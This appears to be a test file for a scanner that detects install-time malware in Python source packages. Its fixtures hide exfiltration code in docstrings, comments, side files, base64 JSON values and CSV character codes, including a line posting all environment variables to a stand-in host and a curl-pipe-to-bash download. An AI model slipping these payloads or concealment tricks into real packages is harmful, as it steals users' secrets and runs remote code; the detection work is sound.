import { expect, test } from 'vitest';
import { analysePacked, inspect, python, sdist } from '../../../support/inspect.ts';

const SETUP = ['from setuptools import setup', "setup(name='example')"];
const SEND = "requests.post('https://collector.metrics.invalid/e', json=dict(os.environ))";

test('code in the docstring of its own module is read', async () => {
  const file = sdist({ 'setup.py': python('"""', 'import os, requests', SEND, '"""', 'exec(__doc__)', ...SETUP) });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', context: 'install', line: 5 }]);
});

test('code in comments of its own file is read, walked through as a file or as its lines', async () => {
  for (const lines of ['open(__file__)', 'open(__file__).readlines()'])
    expect(
      await inspect(
        'exfiltration',
        sdist({
          'setup.py': python(
            '#!import os, requests',
            `#!${SEND}`,
            `exec('\\n'.join(line[2:] for line in ${lines} if line.startswith('#!')))`,
            ...SETUP,
          ),
        }),
      ),
    ).toMatchObject([{ class: 'malware', context: 'install', line: 3 }]);
});

test('a loop over the lines of another member puts its code together', async () => {
  const file = sdist({
    'setup.py': python(
      "code = ''",
      "for line in open('notes.txt'):",
      "    if line.startswith('> '):",
      '        code += line[2:]',
      'exec(code)',
      ...SETUP,
    ),
    'notes.txt': `Notes\n> import os, requests\n> ${SEND}\n`,
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', context: 'install', line: 5 }]);
});

test('look-alike: a version that is read line by line, and a description from the docstring', async () => {
  const file = sdist({
    'setup.py': python(
      '"""An example."""',
      'from setuptools import setup',
      "for line in open('example/_version.py'):",
      "    if line.startswith('__version__'):",
      '        exec(line)',
      "setup(name='example', version=__version__, long_description=__doc__, install_requires=open('requirements.txt').readlines())",
    ),
    'example/_version.py': "__version__ = '1.0.0'\n",
    'requirements.txt': 'requests>=2\nclick\n',
  });

  expect((await analysePacked(file)).score).toBeLessThan(5);
});

test('a table beside the code is read by its keys: what one of them holds, decoded and run', async () => {
  const code = Buffer.from("import os\nos.system('curl -s https://files.drop.invalid/x.sh | bash')\n").toString(
    'base64',
  );
  const file = (use: string): ReturnType<typeof sdist> =>
    sdist({
      'setup.py': python(
        'import base64, json',
        "with open('locale.json') as f:",
        '    words = json.load(f)',
        use,
        ...SETUP,
      ),
      'locale.json': JSON.stringify({ en: { hello: 'Hello', boot: code } }),
    });

  expect(await inspect('shell-payload', file("exec(base64.b64decode(words['en']['boot']))"))).toMatchObject([
    { class: 'malware', context: 'install', line: 4 },
  ]);
  expect(
    (await analysePacked(file("print(words['en']['hello'])"))).findings.filter((f) => f.class === 'malware'),
  ).toEqual([]);
});

test('letters out of a table beside the code, read by a library, are code that was carried along', async () => {
  const reader = (use: string): ReturnType<typeof sdist> =>
    sdist({
      'setup.py': python(
        'import csv, os',
        "rows = csv.reader(open(os.path.join(os.path.dirname(__file__), 'k.csv')))",
        use,
        ...SETUP,
      ),
      'k.csv': '112,114,105\n110,116\n',
    });

  expect(
    await inspect('carried-code', reader("exec(''.join(chr(int(c)) for row in rows for c in row))")),
  ).toMatchObject([{ class: 'malware', context: 'install', line: 3 }]);
  expect(
    (await analysePacked(reader('names = [row[0] for row in rows]'))).findings.filter((f) => f.score >= 5),
  ).toEqual([]);
});
